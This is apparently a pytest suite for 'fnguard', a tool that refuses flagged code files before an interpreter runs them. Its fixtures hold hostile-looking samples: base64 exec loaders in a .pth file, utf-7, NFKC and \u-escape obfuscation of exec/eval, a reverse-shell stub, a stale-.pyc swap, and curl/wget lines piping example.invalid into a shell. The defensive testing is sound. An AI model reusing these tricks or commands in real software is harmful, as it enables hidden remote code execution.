"""Code validation on open: a code file under code.paths that breaks a
rule is refused before the interpreter reads it (its top-level code never
runs); the file handed to the interpreter is the one that was scanned."""
import base64
import contextlib
import json
import os
import shutil
import subprocess
import tempfile

import pytest
from conftest import EXIT_VIOLATION, FNGUARD, NODE, PY, REPO, TIMEOUT, base_env

PROTECT = REPO / "policy" / "examples" / "code_protect.txt"
BAD = 'import subprocess\nopen({marker!r}, "w").write("ran")\n' \
      'filetype = subprocess.check_output("id",shell=True).decode("utf-8")\n'
GOOD = 'def hello():\n    return "hello"\n'


def policy(app, action="deny", rules=None, handover=None):
    rules = rules or f"  rule_files: [{PROTECT}]\n"
    rules += f"  handover: {handover}\n" if handover else ""
    return f"version: 1\ncode:\n  paths: [{app}]\n{rules}  action: {action}\n"


def layout(tmp_path):
    app = tmp_path / "app"
    app.mkdir()
    marker = tmp_path / "BAD_RAN"
    (app / "bad.py").write_text(BAD.format(marker=str(marker)))
    (app / "good.py").write_text(GOOD)
    main = tmp_path / "main.py"
    main.write_text(f"""
import sys
sys.path.insert(0, {str(app)!r})
import good
print(good.hello())
try:
    import bad
    print("bad imported")
except PermissionError as e:
    print("refused", e.errno)
""")
    return app, marker, main


@pytest.mark.parametrize("handover", [None, "always"])
def test_flagged_module_refused_clean_one_imports(run_fnguard, tmp_path, kernel_tier, handover):
    app, marker, main = layout(tmp_path)
    res = run_fnguard(policy(app, handover=handover), [PY, main])
    assert res.returncode == 0, res.dump()
    assert "hello" in res.stdout and "refused 13" in res.stdout, res.dump()
    assert not marker.exists(), "the flagged module's top-level code ran"
    ev = res.one("code", action="deny")
    assert ev["path"] == str(app / "bad.py") and ev["line"] == 3, ev
    assert ev["rule"].startswith("code_protect.txt:"), ev


def test_pth_file_is_code(run_fnguard, tmp_path, kernel_tier):
    """site.py executes the `import` lines of a .pth file in a site
    directory at start-up, before any module is imported: a .pth under the
    code paths is judged like a module. A flagged one is refused (site.py
    passes over a .pth it cannot open) and its line never runs; a clean one
    still does. Default packs: only their high and critical rules enforce."""
    site = tmp_path / "site"
    site.mkdir()
    marker = tmp_path / "PTH_RAN"
    payload = base64.b64encode(f"open({str(marker)!r}, 'w').write('ran')".encode()).decode()
    (site / "evil.pth").write_text(f"import base64; exec(base64.b64decode({payload!r}))\n")
    (site / "fine.pth").write_text("import os; os.environ['FINE_PTH'] = 'yes'\n")
    src = (f"import os, site; site.addsitedir({str(site)!r}); "
           "print('fine', os.environ.get('FINE_PTH'))")
    res = run_fnguard(f"version: 1\ncode:\n  paths: [{site}]\n  action: deny\n", [PY, "-c", src])
    assert res.returncode == 0, res.dump()
    assert not marker.exists(), "the flagged .pth line ran"
    assert "fine yes" in res.stdout, res.dump()
    ev = res.one("code", action="deny")
    assert ev["path"] == str(site / "evil.pth") and ev["rule"] == "py-exec-decoded", ev


@pytest.mark.parametrize("name,judged", [("evil.ts", True), ("evil.mts", True),
                                         ("evil.cts", True), ("Evil.pm", True),
                                         ("evil.d.ts", False)])
def test_typescript_and_perl_modules_are_code(run_fnguard, tmp_path, kernel_tier, name, judged):
    """Node runs .ts/.mts/.cts itself (type stripping, 22.18+) and Perl loads
    .pm modules: both are judged like any code file. A TypeScript
    declaration file (.d.ts) never runs and is not."""
    app = tmp_path / "app"
    app.mkdir()
    (app / name).write_text("import os\nos.system('id')\n")
    src = f"""
try:
    open({str(app / name)!r}).read()
    print("read")
except PermissionError:
    print("refused")
"""
    res = run_fnguard(policy(app), [PY, "-c", src])
    assert res.returncode == 0, res.dump()
    assert ("refused" if judged else "read") in res.stdout, res.dump()
    denied = res.of("code", action="deny")
    assert [e["path"] for e in denied] == ([str(app / name)] if judged else []), res.dump()


def test_kill_mode(run_fnguard, tmp_path, kernel_tier):
    app, marker, main = layout(tmp_path)
    res = run_fnguard(policy(app, "kill"), [PY, main])
    assert res.returncode == EXIT_VIOLATION, res.dump()
    assert not marker.exists()
    assert res.one("code", action="kill")


def test_code_written_at_run_time_is_scanned(run_fnguard, tmp_path, kernel_tier):
    """A module the workload writes itself, then imports: refused; a clean
    rewrite of the same file afterwards (same inode) is scanned again."""
    app = tmp_path / "app"
    app.mkdir()
    marker = tmp_path / "RAN"
    src = f"""
import importlib, sys, time
sys.path.insert(0, {str(app)!r})
p = {str(app / 'late.py')!r}
open(p, "w").write({BAD.format(marker=str(marker))!r})
try:
    import late
except PermissionError:
    print("late refused")
time.sleep(0.05)
with open(p, "w") as f:
    f.write("X = 1\\n")
sys.modules.pop("late", None)
importlib.invalidate_caches()
import late
print("late ok", late.X)
"""
    res = run_fnguard(policy(app), [PY, "-B", "-c", src])
    assert "late refused" in res.stdout and "late ok 1" in res.stdout, res.dump()
    assert not marker.exists()


def test_pyc_cannot_stand_in_for_a_swapped_source(run_fnguard, tmp_path, kernel_tier):
    """A trusted-looking .pyc compiled from malicious code, its source
    swapped for clean text of the same size and mtime: the .pyc is never
    read under code.paths, so the scanned clean source is what runs."""
    app, marker, main = layout(tmp_path)
    evil = app / "mod.py"
    evil.write_text(f'open({str(marker)!r}, "w").write("x")  # pad\n')
    import py_compile
    py_compile.compile(str(evil), cfile=str(app / "__pycache__" / "mod.cpython-311.pyc"))
    st = os.stat(evil)
    clean = 'X = "clean"'
    clean += " " * (st.st_size - len(clean) - 1) + "\n"
    evil.write_text(clean)
    os.utime(evil, ns=(st.st_atime_ns, st.st_mtime_ns))
    bare_marker_check = [PY, "-c", f"import sys; sys.path.insert(0, {str(app)!r}); import mod"]
    import subprocess
    subprocess.run(bare_marker_check, timeout=30)
    assert marker.exists(), "bare CPython did not use the stale .pyc: the test proves nothing"
    marker.unlink()
    res = run_fnguard(policy(app), bare_marker_check)
    assert res.returncode == 0, res.dump()
    assert not marker.exists(), "the .pyc's code ran under fnguard"


def test_node_require_of_flagged_file(run_fnguard, tmp_path, kernel_tier):
    app = tmp_path / "app"
    app.mkdir()
    marker = tmp_path / "RAN"
    (app / "bad.js").write_text(
        f"require('fs').writeFileSync({str(marker)!r}, 'x');\n"
        "const cp = require('child_process'); cp.execSync('id');\n")
    (app / "good.js").write_text("module.exports = 42;\n")
    src = f"""
console.log('good', require({str(app / 'good.js')!r}));
try {{ require({str(app / 'bad.js')!r}); console.log('bad loaded'); }}
catch (e) {{ console.log('refused', e.code); }}
"""
    res = run_fnguard(policy(app, rules="  rules:\n    - id: js-exec\n"
                             "      pattern: 'execSync\\s*\\('\n"), [NODE, "-e", src])
    assert "good 42" in res.stdout and "refused EACCES" in res.stdout, res.dump()
    assert not marker.exists()
    assert res.one("code", action="deny")["rule"] == "js-exec"


def test_default_packs_refuse_a_reverse_shell(run_fnguard, tmp_path, kernel_tier):
    """No rules in the policy: the shipped packs' high/critical rules."""
    app = tmp_path / "app"
    app.mkdir()
    (app / "rs.py").write_text("import os, socket\ns = socket.socket()\n"
                               "os.dup2(s.fileno(), 0)\n")
    (app / "lib.py").write_text("import subprocess\nsubprocess.run(['true'])\n")
    src = f"""
import sys
sys.path.insert(0, {str(app)!r})
import lib
print("lib ok")
try:
    import rs
except PermissionError:
    print("rs refused")
"""
    res = run_fnguard(f"version: 1\ncode:\n  paths: [{app}]\n  action: deny\n",
                      [PY, "-B", "-c", src])
    assert "lib ok" in res.stdout and "rs refused" in res.stdout, res.dump()


def test_code_the_rules_cannot_read_is_refused(run_fnguard, tmp_path, kernel_tier):
    """Modules that hide an enforced idiom from byte patterns but run it:
    a utf-7 source encoding (Python decodes `+AG8AcwA...-` into code), a
    name in letters Python folds to ASCII (NFKC: `ｅxec` is exec), and a
    Node name spelled with \\u escapes (`\\u0065val` is eval). Each runs
    without fnguard; under the shipped packs each is refused unread."""
    app = tmp_path / "app"
    app.mkdir()
    marks = {k: tmp_path / f"RAN_{k}" for k in ("utf7", "nfkc", "node")}
    hidden = f"open({str(marks['utf7'])!r}, 'w').write('x')\n"
    utf7 = "+" + base64.b64encode(hidden.encode("utf-16-be")).decode().rstrip("=") + "-"
    (app / "enc.py").write_bytes(b"# -*- coding: utf-7 -*-\n" + utf7.encode() + b"\n")
    payload = base64.b64encode(f"open({str(marks['nfkc'])!r}, 'w').write('x')".encode())
    (app / "look.py").write_text(f"import base64\n\uff45xec(base64.b64decode({payload!r}))\n",
                                 encoding="utf-8")
    js = base64.b64encode(f"require('fs').writeFileSync({str(marks['node'])!r}, 'x')".encode())
    (app / "esc.js").write_text(f"\\u0065val(Buffer.from('{js.decode()}', 'base64').toString());\n")
    py = (f"import sys\nsys.path.insert(0, {str(app)!r})\n"
          "for m in ('enc', 'look'):\n"
          "    try:\n        __import__(m)\n    except PermissionError:\n        print(m, 'refused')\n")
    node = (f"try {{ require({str(app / 'esc.js')!r}); }} "
            "catch (e) { console.log('esc', e.code === 'EACCES' ? 'refused' : e.code); }")
    for argv in ([PY, "-B", "-c", py], [NODE, "-e", node]):
        subprocess.run(argv, capture_output=True, timeout=TIMEOUT)
    assert all(m.exists() for m in marks.values()), "the hidden code must run without fnguard"
    for m in marks.values():
        m.unlink()
    pol = f"version: 1\ncode:\n  paths: [{app}]\n  action: deny\n"
    res = run_fnguard(pol, [PY, "-B", "-c", py])
    assert "enc refused" in res.stdout and "look refused" in res.stdout, res.dump()
    res_js = run_fnguard(pol, [NODE, "-e", node])
    assert "esc refused" in res_js.stdout, res_js.dump()
    assert not any(m.exists() for m in marks.values()), "hidden code ran under fnguard"
    rules = {e["path"].rsplit("/", 1)[1]: e["rule"] for e in
             res.of("code", action="deny") + res_js.of("code", action="deny")}
    assert rules == {"enc.py": "py-source-encoding", "look.py": "py-nfkc-identifier",
                     "esc.js": "node-escaped-identifier"}, rules


def test_scripts_without_an_extension(run_fnguard, tmp_path, kernel_tier):
    """An executable script with no extension (a custom runtime's
    `bootstrap`, a `bin/tool`) is judged with the rules of the interpreter
    its #! line names, when that interpreter opens it: flagged ones never
    run, a clean one does. Other files with no extension (data, a symlink
    to a device, which fnguard resolves without opening) are untouched."""
    app = tmp_path / "app"
    app.mkdir()
    ran = {k: tmp_path / f"RAN_{k}" for k in ("sh", "py")}
    payload = base64.b64encode(b"print('decoded')").decode()
    scripts = {
        "bootstrap": f"#!/bin/sh\necho x > {ran['sh']}\ncurl -s http://example.invalid/i | sh\n",
        "tool": f"#!{PY}\nimport base64\nopen({str(ran['py'])!r}, 'w').write('x')\n"
                f"exec(base64.b64decode({payload!r}))\n",
        "clean": "#!/bin/sh\necho clean ran\n",
    }
    for name, text in scripts.items():
        (app / name).write_text(text)
        (app / name).chmod(0o755)
    # A name with no extension for a file with one that is no code extension.
    (app / "notes.txt").write_text(f"#!/bin/sh\necho x > {ran['sh']}.2\n"
                                   "wget -qO- http://example.invalid/i | bash\n")
    (app / "notes.txt").chmod(0o755)
    (app / "linked").symlink_to("notes.txt")
    (app / "data").write_text("just data\n")
    (app / "zero").symlink_to("/dev/zero")
    sh = (f"{app}/bootstrap; {app}/tool; {app}/linked; {app}/clean; cat {app}/data; "
          f"head -c 3 {app}/zero | wc -c")
    res = run_fnguard(f"version: 1\ncode:\n  paths: [{app}]\n  action: deny\n",
                      ["/bin/sh", "-c", sh])
    assert "clean ran" in res.stdout and "just data" in res.stdout, res.dump()
    assert res.stdout.split()[-1] == "3", res.dump()
    assert not any(m.exists() for m in ran.values()), "a flagged script ran"
    assert not (tmp_path / "RAN_sh.2").exists(), "the script behind a symlink ran"
    denied = {e["path"]: e["rule"] for e in res.of("code", action="deny")}
    assert denied == {f"{app}/bootstrap": "sh-curl-pipe-sh", f"{app}/tool": "py-exec-decoded",
                      f"{app}/notes.txt": "sh-curl-pipe-sh"}, res.dump()
    found = {e["path"] for e in res.of("code", action="audit") if e.get("phase") == "prelaunch"}
    assert found == {f"{app}/bootstrap", f"{app}/tool"}, res.dump()
    scan = subprocess.run([FNGUARD, "scan", app], capture_output=True, text=True,
                          timeout=TIMEOUT, env=base_env())
    assert scan.returncode == 1, scan
    assert sorted(l.split(":")[0] for l in scan.stdout.splitlines()) == \
        [f"{app}/bootstrap", f"{app}/tool"], scan


def test_a_pack_named_explicitly_enforces_every_rule(run_fnguard, tmp_path, kernel_tier):
    """Named in rule_files, the same pack's low rule (plain subprocess.run),
    which the implicit default lets through, refuses the module."""
    app = tmp_path / "app"
    app.mkdir()
    (app / "lib.py").write_text("import subprocess\nsubprocess.run(['true'])\n")
    src = f"""
import sys
sys.path.insert(0, {str(app)!r})
try:
    import lib
    print("lib ok")
except PermissionError:
    print("lib refused")
"""
    pack = REPO / "rules" / "packs" / "python.yaml"
    res = run_fnguard(f"version: 1\ncode:\n  paths: [{app}]\n  rule_files: [{pack}]\n"
                      f"  action: deny\n", [PY, "-B", "-c", src])
    assert "lib refused" in res.stdout, res.dump()
    assert res.one("code", action="deny")["rule"] == "py-subprocess", res.dump()


def test_prelaunch_scan_reports_before_anything_runs(run_fnguard, tmp_path, kernel_tier):
    app, marker, main = layout(tmp_path)
    (app / "sub").mkdir()
    (app / "sub" / "also_bad.py").write_text("import os\nos.system('id')\n")
    res = run_fnguard(policy(app), [PY, "-c", "pass"])
    assert res.returncode == 0, res.dump()
    pre = [e for e in res.of("code") if e.get("phase") == "prelaunch"]
    assert {e["path"] for e in pre} == {str(app / "bad.py"), str(app / "sub" / "also_bad.py")}, \
        res.dump()
    kinds = [e["event"] for e in res.events]
    assert kinds.index("start") < kinds.index("code") < kinds.index("exit"), kinds


def test_prelaunch_findings_come_before_the_first_code_file(run_fnguard, tmp_path, kernel_tier):
    """The pre-launch scan goes on while the interpreter starts up, and the
    first code file the workload opens waits for all of its findings. The
    tree (60 MB) takes long enough to scan that the scan is still under
    way when python imports its first module: every prelaunch line must
    come before the line that lets that module through."""
    app, marker, main = layout(tmp_path)
    many = app / "many"
    many.mkdir()
    for i in range(4):
        (many / f"big{i}.py").write_text(GOOD * (15 * 2**20 // len(GOOD)))
    (many / "zz_bad.py").write_text("import os\nos.system('id')\n")
    res = run_fnguard(policy(app) + "log:\n  allowed: true\n",
                      [PY, "-c", f"import sys; sys.path.insert(0, {str(app)!r}); import good"])
    assert res.returncode == 0, res.dump()
    lines = [e for e in res.events if e["event"] == "code"]
    pre = [i for i, e in enumerate(lines) if e.get("phase") == "prelaunch"]
    assert {lines[i]["path"] for i in pre} == {str(app / "bad.py"), str(many / "zz_bad.py")}, \
        res.dump()
    first = next(i for i, e in enumerate(lines) if e["action"] == "allow")
    assert lines[first]["path"] == str(app / "good.py"), lines[first]
    assert max(pre) < first, [(e["action"], e["path"]) for e in lines]


AS_NOBODY = ["/usr/bin/setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]


@contextlib.contextmanager
def nobody_tree(prefix):
    """A root-owned 0755 directory for a fnguard run as uid 65534, with a
    `scratch` directory in it that uid may write. Skips where root cannot
    switch users, or where uid 65534 cannot reach the build tree (binary,
    shipped packs: a clone inside a 0700 directory)."""
    if os.geteuid() != 0 or not os.path.exists(AS_NOBODY[0]):
        pytest.skip("needs root to create root-owned files and switch users")
    probe = subprocess.run(AS_NOBODY + [FNGUARD, "scan", "--format", "json", "/dev/null"],
                           capture_output=True, text=True, timeout=TIMEOUT)
    if probe.returncode not in (0, 1):
        pytest.skip(f"the build tree is not reachable by uid 65534: {probe.stderr.strip()}")
    root = tempfile.mkdtemp(prefix=prefix)
    try:
        os.chmod(root, 0o755)
        scratch = os.path.join(root, "scratch")
        os.mkdir(scratch)
        os.chown(scratch, 65534, 65534)
        yield root, scratch
    finally:
        shutil.rmtree(root)


def run_as_nobody(root, pol_text, script, *run_args):
    """`fnguard run` as uid 65534 with root/p.yaml (readable by it) over
    `python3 -B -c script`; the log goes to stderr unless run_args say."""
    pol = os.path.join(root, "p.yaml")
    with open(pol, "w") as f:
        f.write(pol_text)
    os.chmod(pol, 0o644)
    return subprocess.run(AS_NOBODY + [FNGUARD, "run", "-p", pol, *run_args, "--", PY, "-B", "-c",
                                       script],
                          capture_output=True, text=True, timeout=TIMEOUT, env=base_env(),
                          stdin=subprocess.DEVNULL)


def log_lines(stderr):
    return [json.loads(line) for line in stderr.splitlines() if line.startswith("{")]


def test_pyc_trust_depends_on_who_could_write_it(kernel_tier, tmp_path):
    """Run as an unprivileged user: a .pyc in a root-owned, read-only
    __pycache__ with a clean source is used (no recompilation, so its
    code runs); the same .pyc in a directory that user can write is
    refused and the source runs instead."""
    import py_compile
    results = {}
    for kind, writable in (("trusted", False), ("writable", True)):
        with nobody_tree(f"fng-pyc-{kind}-") as (root, _):
            app = os.path.join(root, "app")
            os.mkdir(app)
            src = os.path.join(app, "mod.py")
            # The .pyc says "from-pyc", the source says "from-source": which one
            # runs tells which file CPython used.
            with open(src, "w") as f:
                f.write('WHO = "from-pyc"\n')
            pyc = os.path.join(app, "__pycache__", "mod.cpython-311.pyc")
            py_compile.compile(src, cfile=pyc,
                               invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
            with open(src, "w") as f:
                f.write('WHO = "from-source"\n')
            if writable:
                os.chown(os.path.join(app, "__pycache__"), 65534, 65534)
                os.chown(pyc, 65534, 65534)
            p = run_as_nobody(root, f"version: 1\ncode:\n  paths: [{app}]\n  action: deny\n",
                              f"import sys; sys.path.insert(0, {app!r}); import mod; "
                              "print(mod.WHO)", "--log", "/dev/null")
            results[kind] = (p.returncode, p.stdout.strip(), p.stderr)
    assert results["trusted"][:2] == (0, "from-pyc"), results
    assert results["writable"][:2] == (0, "from-source"), results


# Run by a root workload that first drops to 65534, then opens path.
DROP_AND_OPEN = ("import os\nos.setgroups([]); os.setgid(65534); os.setuid(65534)\n"
                 "try:\n    print(open({path!r}).read().strip())\n"
                 "except PermissionError as e:\n    print('refused', e.errno)\n")


@contextlib.contextmanager
def root_only_file(prefix, name, text):
    """A directory anyone may enter holding a 0600 file of root's."""
    if os.geteuid() != 0:
        pytest.skip("needs a root supervisor and a workload that drops to 65534")
    d = tempfile.mkdtemp(prefix=prefix, dir="/tmp")
    try:
        os.chmod(d, 0o755)
        path = os.path.join(d, name)
        with open(path, "w") as f:
            f.write(text)
        os.chmod(path, 0o600)
        yield d, path
    finally:
        shutil.rmtree(d)


def test_code_opened_with_the_workloads_rights(run_fnguard, tmp_path, kernel_tier):
    """fnguard opens code files for the workload: a root fnguard must not
    open what the workload could not. A `.py` symlink to a root-only file,
    opened after the workload dropped to 65534, gets EACCES as it would
    without fnguard (and the secret is never read)."""
    with root_only_file("fng-code-rights-", "secret", "TOPSECRET\n") as (d, secret):
        os.symlink(secret, os.path.join(d, "evil.py"))
        script = DROP_AND_OPEN.format(path=os.path.join(d, "evil.py"))
        bare = subprocess.run([PY, "-c", script], capture_output=True, text=True, timeout=30)
        assert bare.stdout.strip() == "refused 13", bare
        res = run_fnguard(policy(d), [PY, "-c", script])
        assert res.returncode == 0, res.dump()
        assert res.stdout.strip() == "refused 13", res.dump()


@pytest.mark.parametrize("handover", ["writable", "always"])
def test_tree_out_of_the_workloads_reach(kernel_tier, handover):
    """Run as uid 65534 over a root-owned tree it cannot write: by default
    the workload's own opens of its files go on once they scan clean (the
    same name reaches the same unchanged file); either way the flagged
    module is refused before its top-level code runs, and a module the
    workload writes next to it (in a directory it may write) is judged
    and handed over."""
    with nobody_tree("fng-reach-") as (root, scratch):
        app = os.path.join(root, "app")
        os.mkdir(app)
        marker = os.path.join(scratch, "BAD_RAN")
        with open(os.path.join(app, "bad.py"), "w") as f:
            f.write(BAD.format(marker=marker))
        with open(os.path.join(app, "good.py"), "w") as f:
            f.write(GOOD)
        script = (f"import importlib, sys; sys.path[:0] = [{app!r}, {scratch!r}]\n"
                  "import good; print(good.hello())\n"
                  "try:\n    import bad\nexcept PermissionError as e:\n"
                  "    print('refused', e.errno)\n"
                  f"open({scratch!r} + '/late.py', 'w').write({BAD.format(marker=marker)!r})\n"
                  "importlib.invalidate_caches()\n"
                  "try:\n    import late\nexcept PermissionError as e:\n"
                  "    print('late refused', e.errno)\n"
                  f"open({scratch!r} + '/fine.py', 'w').write('X = 7\\n')\n"
                  "importlib.invalidate_caches(); import fine; print('fine', fine.X)\n")
        p = run_as_nobody(root, policy(f"{app}, {scratch}", handover=handover), script)
        out = p.stdout.split()
        assert p.returncode == 0, (p.stdout, p.stderr)
        assert out[:1] == ["hello"], (p.stdout, p.stderr)
        assert "refused 13" in p.stdout and "late refused 13" in p.stdout, (p.stdout, p.stderr)
        assert "fine 7" in p.stdout, (p.stdout, p.stderr)
        assert not os.path.exists(marker), "a flagged module's top-level code ran"
        denied = [e["path"] for e in log_lines(p.stderr)
                  if e["event"] == "code" and e["action"] == "deny"]
        assert denied == [os.path.join(app, "bad.py"), os.path.join(scratch, "late.py")], p.stderr


def test_kill_verdict_is_no_oracle_on_unreadable_files(run_fnguard, tmp_path, kernel_tier):
    """A root fnguard judges a file as itself first; a flagged file the
    workload cannot read must not kill it (that would tell it what the
    file holds): it gets EACCES, as without fnguard, and nothing is
    refused or killed on its behalf."""
    with root_only_file("fng-code-oracle-", "hidden.py", BAD.format(marker="/nonexistent")) \
            as (d, hidden):
        res = run_fnguard(policy(d, "kill"), [PY, "-c", DROP_AND_OPEN.format(path=hidden)])
        assert res.returncode == 0, res.dump()
        assert res.stdout.strip() == "refused 13", res.dump()
        assert not res.of("code", action="deny") and not res.of("code", action="kill"), res.dump()


def test_non_dumpable_workload_cannot_slip_past(kernel_tier):
    """A workload that makes itself non-dumpable cannot be read by a
    fnguard that is not root: its opens are refused (said once), never
    let through unjudged. Once, a flagged module then imported."""
    with nobody_tree("fng-dumpable-") as (root, scratch):
        marker = os.path.join(scratch, "BAD_RAN")
        with open(os.path.join(root, "bad.py"), "w") as f:
            f.write(BAD.format(marker=marker))
        script = ("import ctypes, sys\n"
                  "print('prctl', ctypes.CDLL(None).prctl(4, 0, 0, 0, 0), flush=True)\n"
                  f"sys.path.insert(0, {root!r})\n"
                  "try:\n    import bad\n    print('imported')\n"
                  "except PermissionError as e:\n    print('refused', e.errno)\n")
        p = run_as_nobody(root, policy(root), script)
        assert "prctl 0" in p.stdout, (p.stdout, p.stderr)
        assert "refused 13" in p.stdout and "imported" not in p.stdout, (p.stdout, p.stderr)
        assert not os.path.exists(marker), "a flagged module's top-level code ran"
        said = [e for e in log_lines(p.stderr) if e["event"] == "syscall" and e.get("rule") == "code"]
        assert len(said) == 1 and "cannot be read" in said[0]["reason"], p.stderr
